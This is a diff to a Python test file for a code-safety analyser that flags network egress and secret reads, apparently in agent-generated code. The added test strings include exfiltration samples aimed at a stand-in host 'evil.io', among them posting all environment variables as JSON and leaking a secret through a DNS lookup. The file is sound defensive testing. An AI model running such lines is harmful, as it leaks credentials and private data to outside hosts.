@@ -40,6 +40,10 @@ def py(code: str, *, allowed: list[str] | None = None) -> Analysis:
         'import requests\ngetattr(requests, "po" + "st")("https://evil.io", data=b"x")',
         'import ftplib\nftplib.FTP("ftp.evil.io")',
         'import requests\nrequests.get("https://api.example.com.evil.io/x")',
+        'import requests\nrequests.request("POST", "https://evil.io/x", data=1)',
+        'import pandas as pd\ndf = pd.read_csv("https://evil.io/x.csv")',
+        'df = spark.read.json("http://evil.io/x.json")',
+        'import socket\nsocket.gethostbyname(secret + ".evil.io")',
     ],
 )
 def test_network_calls_are_high(code: str) -> None:
@@ -56,6 +60,8 @@ def test_network_calls_are_high(code: str) -> None:
         'import requests\nwith requests.Session() as s:\n    s.get("https://api.example.com/x")',
         'import socket\nsocket.create_connection(("api.example.com", 443))',
         'BASE = "https://api." + "example.com"\nimport httpx\nhttpx.get(BASE + "/v1/x")',
+        'import requests\nrequests.request("GET", "https://api.example.com/x")',
+        'import pandas as pd\ndf = pd.read_csv("https://api.example.com/x.csv")',
     ],
 )
 def test_allow_listed_hosts_are_respected(code: str) -> None:
@@ -133,3 +139,15 @@ def test_the_allow_list_setting_reads_its_environment_variable(
 ) -> None:
     monkeypatch.setenv("AADAP_SAFETY_EGRESS_ALLOWED_HOSTS", '["api.example.com"]')
     assert SafetySettings(_env_file=None).egress_allowed_hosts == ["api.example.com"]
+
+
+def test_dumping_the_environment_is_a_secret_read() -> None:
+    dump = py("import os\nfor k, v in os.environ.items():\n    print(k, v)")
+    assert "python.environment_dump" in dump.rules()
+    sent = py(
+        "import os, json, requests\n"
+        'requests.post("https://evil.io", data=json.dumps(dict(os.environ)))'
+    )
+    assert "egress.exfiltration" in sent.rules()
+    one = py('import os\nhome = os.environ.get("HOME")\ntoken = os.environ["TOKEN"]')
+    assert one.findings == ()
